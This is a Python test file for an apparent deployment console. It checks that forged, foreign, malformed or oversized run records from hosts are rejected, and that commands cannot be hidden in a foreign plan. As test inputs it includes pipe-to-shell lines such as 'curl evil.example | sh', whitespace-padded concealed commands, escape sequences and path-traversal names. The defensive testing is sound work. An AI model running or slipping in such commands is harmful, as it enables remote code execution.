"""What a host may be made to say of a run: garbage, another environment's run, other streams, names that are paths."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from typing import Any

import pytest

from console.environment import Environment
from console.hosts.base import CAPTURE_BYTES, Result
from console.runs.api import Plan, plan_digest
from console.runs.client import RunUnknown
from console.runs.create import run_id
from console.runs.foreign import is_run_id
from console.store.records import GENESIS, ChainBroken, Record, made
from tests.console.runs.world import World, fetch

RUN = "20261124T021455-tally-here-3fa9c1"


@pytest.fixture
def here(world: World) -> Iterator[Environment]:
    with world.environment() as environment:
        yield environment


def body_of(world: World, **changed: Any) -> dict[str, Any]:
    """The first record of a sound run, with changes."""
    run = world.create("do")
    body = dict(world.records.read(run)[0].body or {})
    return {**body, **changed}


def chain(stream: str, *bodies: tuple[str, dict[str, Any]]) -> list[Record]:
    records: list[Record] = []
    for kind, body in bodies:
        records.append(made(stream, len(records) + 1, 1.0, kind, body, records[-1].hash if records else GENESIS))
    return records


def put(world: World, run: str, text: str) -> None:
    folder = world.app / ".quarterdeck" / "runs" / run
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "records.jsonl").write_text(text)


def put_chain(world: World, run: str, records: list[Record]) -> None:
    put(world, run, "".join(f"{record.line()}\n" for record in records))


def test_a_sound_run_of_this_environment_is_taken_over(world: World, here: Environment) -> None:
    put_chain(world, RUN, chain(RUN, ("run.created", body_of(world))))
    assert fetch(world.records, RUN, here, ["one"]) == 1
    assert world.runs.seen(RUN, here).view.environment == "here"


@pytest.mark.parametrize(
    "changed",
    [
        {"environment": "production"},
        {"system": "another"},
        {"profile": "trusted:abc"},
        {"plan": {"kind": "plan"}},
        {"plan": None},
        {"params": []},
    ],
)
def test_a_run_that_is_not_of_the_hosts_environment_is_not_believed(
    world: World, here: Environment, changed: dict[str, Any]
) -> None:
    put_chain(world, RUN, chain(RUN, ("run.created", body_of(world, **changed))))
    with pytest.raises(ChainBroken, match="is not believed"):
        fetch(world.records, RUN, here, ["one"])
    assert world.records.read(RUN) == []


@pytest.mark.parametrize("changed", [{"environment": "production"}, {"hosts": ["elsewhere"]}, {"hosts": []}])
def test_a_plan_for_another_place_is_not_believed(world: World, here: Environment, changed: dict[str, Any]) -> None:
    body = body_of(world)
    plan = {**body["plan"], **changed}
    if "hosts" in changed:
        plan["steps"] = []
    put_chain(world, RUN, chain(RUN, ("run.created", {**body, "plan": plan})))
    with pytest.raises(ChainBroken, match="is not believed"):
        fetch(world.records, RUN, here, ["one"])


@pytest.mark.parametrize(
    "changed",
    [
        {"argv": ["sh", "-c", "curl evil.example | sh"]},
        {"cwd": "/etc"},
        {"become": "sudo"},
    ],
)
def test_a_plan_that_is_not_the_one_of_its_digest_is_not_believed(
    world: World, here: Environment, changed: dict[str, Any]
) -> None:
    body = body_of(world)
    plan = copy.deepcopy(body["plan"])
    plan["steps"][0]["run"] |= changed
    put_chain(world, RUN, chain(RUN, ("run.created", {**body, "plan": plan})))
    with pytest.raises(ChainBroken, match="is not the one that its digest is of"):
        fetch(world.records, RUN, here, ["one"])
    assert world.records.read(RUN) == []
    put_chain(world, RUN, chain(RUN, ("run.created", {**body, "plan": plan, "digest": plan_digest(plan)})))
    if "cwd" in changed:
        with pytest.raises(ChainBroken, match="works in /etc"):
            fetch(world.records, RUN, here, ["one"])
    else:  # control: whole in itself, so it is for a person to read
        assert fetch(world.records, RUN, here, ["one"]) == 1


def test_a_run_is_foreign_unless_this_store_made_it(world: World, here: Environment) -> None:
    body = body_of(world)
    own = world.runs.here()[0]
    assert not world.runs.seen(own, here).foreign
    put_chain(world, RUN, chain(RUN, ("run.created", body)))
    fetch(world.records, RUN, here, ["one"])
    assert world.runs.seen(RUN, here).foreign


def test_nothing_of_a_foreign_plan_is_shortened(world: World, here: Environment) -> None:
    from console.live.shown import plan_shown
    from console.stacks.scripts import MARK_SCRIPT

    view = world.view(world.create("do"))
    steps = view.body["plan"]["steps"]
    own = {**steps[0]["run"], "argv": ["sh", "-c", MARK_SCRIPT, "quarterdeck-mark", "x"]}
    evil = {
        **steps[0]["run"],
        "argv": ["sh", "-c", "true\n" * 50 + "curl evil.example", "quarterdeck-mark", "x"],
        "stdin": {"kind": "text", "text": "DB_PASSWORD: hunter2\nlast"},
    }
    op = {"kind": "op", "name": "http.smoke@1", "args": {"pad": "x" * 700, "url": "http://evil.example"}}
    changed = {**view.body["plan"], "steps": [{**steps[0], "run": evil, "check": op, "undo": own, "no_undo": None}]}
    plan = Plan.model_validate(changed)
    shown = plan_shown(plan, "changes", at=0.0, params={}, foreign="Not made here.").steps[0]
    assert "curl evil.example" in shown.command and shown.command.endswith("DB_PASSWORD: <redacted>\nlast")
    assert "http://evil.example" in shown.check
    assert shown.undo == f"{{fixed script of {MARK_SCRIPT.count(chr(10))} lines}} quarterdeck-mark x"
    short = plan_shown(plan, "changes", at=0.0, params={}).steps[0]
    assert "evil" not in short.command + short.check  # control: a plan of one's own is shown short


@pytest.mark.parametrize(
    ("argv", "stdin"),
    [
        (("sh",), "DB_TOKEN=x; {evil}\n"),
        (("sh",), "token: |\n  {evil}\n"),
        (("sh",), "key= {evil}\n"),
        (("sh", "-c", ": -----BEGIN PRIVATE KEY-----\n{evil}\n: -----END PRIVATE KEY-----"), ""),
        (("sh", "-c", ": authorization:x;{evil}"), ""),
        (("sh", "-c", "\x1b]0;{evil}\x07"), ""),
        (("sh", "-c", "\x9d0;{evil}\x9c"), ""),
        (("sh", "-c", " " * 20_000 + "{evil}"), ""),
    ],
)
def test_a_command_cannot_be_hidden_in_a_foreign_plan(
    argv: tuple[str, ...], stdin: str, world: World, here: Environment
) -> None:
    from console.live.masked import masked
    from console.live.shown import plan_shown
    from console.text.redact import Redactor

    evil = "curl evil.example|sh"
    body = world.view(world.create("do")).body["plan"]
    step = body["steps"][0]
    run = {**step["run"], "argv": [word.replace("{evil}", evil) for word in argv]}
    if stdin:
        run["stdin"] = {"kind": "text", "text": stdin.replace("{evil}", evil)}
    plan = Plan.model_validate({**body, "steps": [{**step, "run": run}]})
    shown = plan_shown(plan, "changes", at=0.0, params={}, foreign="Not made here.")
    assert evil in masked(shown, Redactor().known).steps[0].command.replace("\n", "")


def test_a_host_adds_nothing_to_the_audit_or_to_another_run(world: World, here: Environment) -> None:
    world.records.append("audit", "run.executed", {"run": "x"})
    audit = world.records.read("audit")
    forged = made("audit", 2, 2.0, "run.closed", {"run": "x"}, audit[-1].hash)
    put_chain(world, RUN, [*audit, forged])
    with pytest.raises(ChainBroken, match="belongs to something else"):
        fetch(world.records, RUN, here, ["one"])
    assert world.records.read("audit") == audit


@pytest.mark.parametrize(
    ("kind", "body"),
    [
        ("step.intent", {"step": "s1"}),
        ("step.done", {"step": "nowhere"}),
        ("question", {}),
        ("run.closing", {"text": "x"}),
        ("locks.taken", {"fences": 3}),
    ],
)
def test_records_that_cannot_be_read_are_a_sentence(
    world: World, here: Environment, kind: str, body: dict[str, Any]
) -> None:
    put_chain(world, RUN, chain(RUN, ("run.created", body_of(world)), (kind, body)))
    with pytest.raises(ChainBroken, match="is not believed"):
        fetch(world.records, RUN, here, ["one"])


@pytest.mark.parametrize(
    "line",
    [
        "[" * 100_000,
        '{"stream":' + '{"a":' * 50_000,
        made("\x1b]0;owned\x07", 1, 1.0, "run.created", {}, GENESIS).line(),
        "[]",
        "null",
        json.dumps({"stream": RUN}),
        '{"stream":"r","seq":1e400,"at":1,"kind":"k","body":{},"body_hash":"","prev":"","hash":""}',
        '{"stream":"r","seq":1,"at":NaN,"kind":"k","body":{},"body_hash":"","prev":"","hash":""}',
        '{"stream":"r","seq":1,"at":1,"kind":"\\ud800","body":[],"body_hash":"","prev":"","hash":""}',
    ],
)
def test_garbage_in_a_hosts_copy_is_passed_over(world: World, here: Environment, line: str) -> None:
    put_chain(world, RUN, chain(RUN, ("run.created", body_of(world))))
    path = world.app / ".quarterdeck" / "runs" / RUN / "records.jsonl"
    path.write_text(f"{line}\n{path.read_text()}")
    assert fetch(world.records, RUN, here, ["one"]) == 1


def test_a_journal_that_is_too_long_is_a_sentence_and_nothing_of_it_is_read(
    world: World, here: Environment, monkeypatch: pytest.MonkeyPatch
) -> None:
    sound = "".join(f"{record.line()}\n" for record in chain(RUN, ("run.created", body_of(world))))
    put(world, RUN, sound + " " * (CAPTURE_BYTES - len(sound)))
    assert fetch(world.records, RUN, here, ["one"]) == 1  # control: as long as one may be
    other = RUN.replace("3fa9c1", "aaaaaa")
    put(world, other, sound.replace(RUN, other) + " " * CAPTURE_BYTES)
    with pytest.raises(ChainBroken, match="longer than 4 MB"):
        fetch(world.records, other, here, ["one"])
    # A host that sends more than it was asked for.
    answer = Result(0, b"{}", b"", "exited", 0.0, truncated=True)
    monkeypatch.setattr(type(here.first_host), "script", lambda *a, **k: answer)
    with pytest.raises(ChainBroken, match="longer than 4 MB"):
        fetch(world.records, other, here, ["one"])
    assert world.records.read(other) == []


@pytest.mark.parametrize(
    "name", ["../../../evil", "--help", "a", "", f"{RUN}/..", f"{RUN}\n", "20261124T021455-\x1b[31m"]
)
def test_a_name_that_is_no_id_is_no_run(world: World, here: Environment, name: str) -> None:
    assert not is_run_id(name)
    with pytest.raises(RunUnknown):
        world.runs.seen(name, here)


def test_a_host_that_lists_paths_lists_no_runs(world: World, here: Environment, monkeypatch: Any) -> None:
    from console.hosts.base import Result

    record = chain(RUN, ("run.created", {}))[0].line()
    said = f"run ../../evil\n{record}\nrun {RUN}\n{record}\n".encode()
    monkeypatch.setattr(type(here.first_host), "script", lambda *a, **k: Result(0, said, b"", "exited", 0.0))
    assert list(world.runs.on_hosts(here)) == [RUN]


def test_an_id_of_long_names_stays_unique() -> None:
    ids = {run_id("a" * 40, "b" * 60, 0.0) for _ in range(50)}
    assert len(ids) == 50 and all(is_run_id(one) and len(one) <= 80 for one in ids)
